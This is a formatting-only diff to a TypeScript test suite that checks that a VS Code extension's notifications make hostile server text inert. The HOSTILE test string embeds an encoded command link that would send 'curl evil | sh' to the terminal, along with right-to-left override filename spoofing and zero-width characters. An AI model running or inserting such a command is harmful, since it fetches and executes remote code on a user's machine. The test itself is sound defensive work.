@@ -16,10 +16,12 @@ interface Shown {
 const shown: Shown[] = [];
 /** Which button the next notification answers with (by index), or undefined for Escape. */
 let answer: number | undefined;
-const recorder = (kind: Shown['kind']) => async (message: string, options: Shown['options'], ...items: string[]) => {
-  shown.push({ kind, message, options, items });
-  return answer === undefined ? undefined : items[answer];
-};
+const recorder =
+  (kind: Shown['kind']) =>
+  async (message: string, options: Shown['options'], ...items: string[]) => {
+    shown.push({ kind, message, options, items });
+    return answer === undefined ? undefined : items[answer];
+  };
 const patch = {
   showErrorMessage: recorder('error'),
   showWarningMessage: recorder('warn'),
@@ -32,7 +34,8 @@ const ICON = /\$\(/;
 const HIDDEN = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff]/u;
 
 /** Server text that would run a command, draw an icon, reverse text or forge a line. */
-const HOSTILE = 'Quota exceeded. [Fix it now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D) $(check) verified \u202Etxt.exe\u202C\nSecond line\u200b';
+const HOSTILE =
+  'Quota exceeded. [Fix it now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D) $(check) verified \u202Etxt.exe\u202C\nSecond line\u200b';
 
 function assertInert(text: string | undefined, where: string): void {
   assert.ok(text !== undefined, `${where}: nothing shown`);
@@ -45,11 +48,19 @@ function assertInert(text: string | undefined, where: string): void {
 describe('common/notify: every notification is inert', () => {
   let had: Record<string, unknown> = {};
   before(() => {
-    had = Object.fromEntries(Object.keys(patch).filter((k) => k in stub.window).map((k) => [k, (stub.window as Record<string, unknown>)[k]]));
+    had = Object.fromEntries(
+      Object.keys(patch)
+        .filter((k) => k in stub.window)
+        .map((k) => [k, (stub.window as Record<string, unknown>)[k]]),
+    );
     Object.assign(stub.window, patch);
   });
   after(() => {
-    for (const key of Object.keys(patch)) if (!(key in had)) delete (stub.window as Record<string, unknown>)[key];
+    for (const key of Object.keys(patch)) {
+      if (!(key in had)) {
+        delete (stub.window as Record<string, unknown>)[key];
+      }
+    }
     Object.assign(stub.window, had);
   });
   beforeEach(() => {
@@ -74,7 +85,13 @@ describe('common/notify: every notification is inert', () => {
   for (const severity of ['warn', 'info'] as const) {
     it(`askModal(${severity}): the message, each detail line and every button`, async () => {
       answer = 0;
-      const choice = await askModal(severity, `Delete ${HOSTILE}?`, [`name: ${HOSTILE}`, 'plain line', `id: ${HOSTILE}`], `Delete ${HOSTILE}`, 'Keep');
+      const choice = await askModal(
+        severity,
+        `Delete ${HOSTILE}?`,
+        [`name: ${HOSTILE}`, 'plain line', `id: ${HOSTILE}`],
+        `Delete ${HOSTILE}`,
+        'Keep',
+      );
       assert.equal(shown.length, 1);
       const [modal] = shown;
       assert.equal(modal.kind, severity);
@@ -93,10 +110,31 @@ describe('common/notify: every notification is inert', () => {
   it('answers undefined when dismissed, and bounds a huge message and detail', async () => {
     const huge = `[x](command:evil) ${'y'.repeat(1_000_000)}`;
     assert.equal(await notify.error(huge, 'OK'), undefined);
-    assert.equal(await askModal('warn', huge, [huge, huge, huge, huge, huge, huge, huge, huge, huge, huge, huge, huge, huge, huge, huge]), undefined);
+    assert.equal(
+      await askModal('warn', huge, [
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+        huge,
+      ]),
+      undefined,
+    );
     assert.ok(shown[0].message.length <= 1000, `message ${shown[0].message.length} chars`);
     assert.ok(shown[1].message.length <= 1000);
     assert.ok((shown[1].options.detail ?? '').length <= 4000, `detail ${(shown[1].options.detail ?? '').length} chars`);
-    for (const s of shown) assert.equal(NOTIFICATION_LINK.exec(s.message), null);
+    for (const s of shown) {
+      assert.equal(NOTIFICATION_LINK.exec(s.message), null);
+    }
   });
 });
